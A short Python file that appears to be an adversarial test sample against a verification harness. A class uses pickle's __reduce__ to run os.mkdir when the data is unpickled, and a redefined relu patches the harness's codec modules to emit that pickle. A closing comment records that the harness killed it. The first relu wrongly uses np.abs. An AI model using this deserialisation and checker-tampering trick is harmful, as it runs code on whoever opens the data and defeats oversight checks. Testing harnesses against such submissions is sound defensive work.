"""Replaces the codec by pickles that run code wherever they are opened."""

import numpy as np


def relu(z):
    return np.abs(z)


# trick
import os
import pickle
import sys


class Payload:
    def __reduce__(self):
        return os.mkdir, ("gradproof-attack-pickled",)


def pieces(value):
    return [pickle.dumps(Payload())]


def relu(z):
    for name in ("gradproof_child.child", "gradproof_child.codec"):
        sys.modules[name].pieces = pieces
    return Payload()


# end of trick
# verdict: killed, it broke the protocol: an unknown tag b'\x80'
